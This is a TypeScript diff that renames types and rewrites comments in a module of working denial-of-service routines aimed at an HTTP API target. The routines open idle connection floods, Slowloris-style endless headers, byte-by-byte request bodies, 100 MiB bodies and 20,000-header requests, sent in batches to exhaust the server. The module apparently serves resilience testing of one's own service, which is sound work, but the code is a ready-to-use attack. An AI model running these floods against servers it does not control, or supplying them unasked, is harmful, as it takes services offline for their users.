@@ -2,8 +2,8 @@ import { once } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import type { Target } from './target.js';
 
-/** An attack that goes on until it is stopped. */
-export interface Crowd {
+/** An attack that runs until it is stopped. */
+export interface ConnectionFlood {
   readonly name: string;
   readonly connections: number;
   stop(): void;
@@ -11,14 +11,14 @@ export interface Crowd {
 
 const batch = 250;
 
-/** Opens connections some at a time, so that none is refused for the queue of the listener alone. */
+/** Opens connections in batches, so that the queue of the listener refuses none. */
 async function open({ apiUrl }: Target, count: number, greet: (socket: Socket) => void): Promise<Socket[]> {
   const { hostname, port } = new URL(apiUrl);
   const sockets: Socket[] = [];
   while (sockets.length < count) {
     const some = Array.from({ length: Math.min(batch, count - sockets.length) }, () => {
       const socket = connect(Number(port), hostname);
-      // The other end may cut it off at any time: that is its good right.
+      // The server may close it at any time.
       socket.on('error', () => undefined);
       socket.resume();
       return socket;
@@ -30,7 +30,7 @@ async function open({ apiUrl }: Target, count: number, greet: (socket: Socket) =
   return sockets;
 }
 
-function crowd(name: string, sockets: readonly Socket[], each: (socket: Socket) => void): Crowd {
+function connectionFlood(name: string, sockets: readonly Socket[], each: (socket: Socket) => void): ConnectionFlood {
   const timer = setInterval(() => sockets.filter(({ writable }) => writable).forEach(each), 500);
   const stop = (): void => {
     clearInterval(timer);
@@ -41,14 +41,14 @@ function crowd(name: string, sockets: readonly Socket[], each: (socket: Socket) 
 
 const nothing = (): void => undefined;
 
-/** Connections on which nothing is ever said. */
-export const idle = async (target: Target, count: number): Promise<Crowd> =>
-  crowd('idle connections', await open(target, count, nothing), nothing);
+/** Connections that never send a byte. */
+export const idle = async (target: Target, count: number): Promise<ConnectionFlood> =>
+  connectionFlood('idle connections', await open(target, count, nothing), nothing);
 
 /** Slowloris: headers that never end. */
-export async function slowHeaders(target: Target, count: number): Promise<Crowd> {
+export async function slowHeaders(target: Target, count: number): Promise<ConnectionFlood> {
   const sockets = await open(target, count, (socket) => socket.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n'));
-  return crowd('slow headers', sockets, (socket) => socket.write('X-A: b\r\n'));
+  return connectionFlood('slow headers', sockets, (socket) => socket.write('X-A: b\r\n'));
 }
 
 const post = ({ aid, token }: Target, length: number): string =>
@@ -56,15 +56,15 @@ const post = ({ aid, token }: Target, length: number): string =>
   `Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
 
 /** Bodies that arrive byte by byte. */
-export async function slowBodies(target: Target, count: number): Promise<Crowd> {
+export async function slowBodies(target: Target, count: number): Promise<ConnectionFlood> {
   const sockets = await open(target, count, (socket) => socket.write(post(target, 100_000)));
-  return crowd('slow bodies', sockets, (socket) => socket.write(' '));
+  return connectionFlood('slow bodies', sockets, (socket) => socket.write(' '));
 }
 
 const mib = Buffer.alloc(1024 * 1024, 0x20);
 
-/** Bodies of 100 MiB, as fast as they are taken. */
-export async function hugeBodies(target: Target, count: number): Promise<Crowd> {
+/** Bodies of 100 MiB, as fast as the server reads them. */
+export async function hugeBodies(target: Target, count: number): Promise<ConnectionFlood> {
   const sockets = await open(target, count, (socket) => {
     socket.write(post(target, 100 * mib.length));
     let left = 100;
@@ -77,12 +77,12 @@ export async function hugeBodies(target: Target, count: number): Promise<Crowd> 
     socket.on('drain', more);
     more();
   });
-  return crowd('bodies of 100 MiB', sockets, nothing);
+  return connectionFlood('bodies of 100 MiB', sockets, nothing);
 }
 
-/** Requests with more headers than anybody reads. */
-export async function headerFlood(target: Target, count: number): Promise<Crowd> {
+/** Requests with more headers than the server accepts. */
+export async function headerFlood(target: Target, count: number): Promise<ConnectionFlood> {
   const flood = Array.from({ length: 20_000 }, (_, n) => `X-${n}: ${n}\r\n`).join('');
   const sockets = await open(target, count, (socket) => socket.write(`GET / HTTP/1.1\r\nHost: x\r\n${flood}`));
-  return crowd('header floods', sockets, nothing);
+  return connectionFlood('header floods', sockets, nothing);
 }
